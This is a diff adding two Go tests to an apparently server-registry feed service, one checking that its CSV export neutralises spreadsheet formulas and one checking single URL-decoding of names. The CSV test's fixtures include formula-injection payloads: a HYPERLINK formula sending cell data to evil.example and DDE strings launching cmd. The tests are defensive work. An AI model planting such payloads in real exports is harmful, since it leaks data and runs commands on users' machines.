@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"context"
 	"encoding/base64"
+	"encoding/csv"
 	"encoding/json"
 	"flag"
 	"io"
@@ -234,5 +235,65 @@ func TestServeCachesReads(t *testing.T) {
 	}
 	if code := get("/v0.1/servers?cursor=" + base64.RawURLEncoding.EncodeToString([]byte("https://gone.example/card"))); code != http.StatusBadRequest {
 		t.Errorf("stale cursor: %d, want 400", code)
+	}
+}
+
+// TestCSVNeutralisesFormulas: card text that a spreadsheet would run as a
+// formula is written with a leading quote (OWASP), in the one CSV writer
+// that export and /feed.csv share.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	ss := servers()[:1]
+	c := &ss[0].Card
+	c.Name = `=HYPERLINK("https://evil.example/?"&A1,"click")`
+	c.Title = "+cmd|' /C calc'!A0"
+	c.Version = "-2+3"
+	ss[0].Listings = ss[0].Listings[:1]
+	ss = append(ss, ss[0], ss[0], ss[0])
+	ss[1].Card.Name, ss[1].Card.Title, ss[1].Card.Version = "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB", "\rCR"
+	ss[2].Card.Name, ss[2].Card.Title, ss[2].Card.Version = "safe = name", "a-b", "1.0.0-rc.1"
+	ss[3].Card.Name, ss[3].Card.Title, ss[3].Card.Version = "'quoted", "\"=quoted\"", " =space"
+	var buf bytes.Buffer
+	if err := feed.Write(&buf, "csv", feed.Records(ss)); err != nil {
+		t.Fatal(err)
+	}
+	golden(t, "formulas.csv", buf.Bytes())
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows[1:] {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q would run as a formula", cell)
+			}
+		}
+	}
+	if got := rows[3][3]; got != "safe = name" {
+		t.Errorf("a harmless cell changed: %q", got)
+	}
+}
+
+// TestLatestDecodesTheNameOnce: the mux already decodes the {name} segment;
+// a second decoding broke names holding "%" and made a literal "%41"
+// unreachable.
+func TestLatestDecodesTheNameOnce(t *testing.T) {
+	ss := servers()
+	ss[0].Card.Name, ss[1].Card.Name = "com.example/a%41", "com.example/a%41"
+	ss[2].Card.Name = "com.example/100%"
+	ss[3].Card.Name = "com.example/aA"
+	h := feed.Handler(feed.ServerOptions{Source: func(context.Context) ([]feed.Record, error) { return feed.Records(ss), nil }})
+	for _, tc := range []struct{ path, want string }{
+		{"/v0.1/servers/com.example%2Fa%2541/versions/latest", "com.example/a%41"},
+		{"/v0.1/servers/com.example%2F100%25/versions/latest", "com.example/100%"},
+		{"/v0.1/servers/com.example%2Fa%41/versions/latest", "com.example/aA"},
+		{"/v0.1/servers/com.example%2FaA/versions/latest", "com.example/aA"},
+	} {
+		rec := httptest.NewRecorder()
+		h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, tc.path, nil))
+		var got struct{ Server struct{ Name string } }
+		_ = json.Unmarshal(rec.Body.Bytes(), &got)
+		if rec.Code != http.StatusOK || got.Server.Name != tc.want {
+			t.Errorf("%s: %d, name %q; want 200 and %q\n%s", tc.path, rec.Code, got.Server.Name, tc.want, rec.Body.String())
+		}
 	}
 }
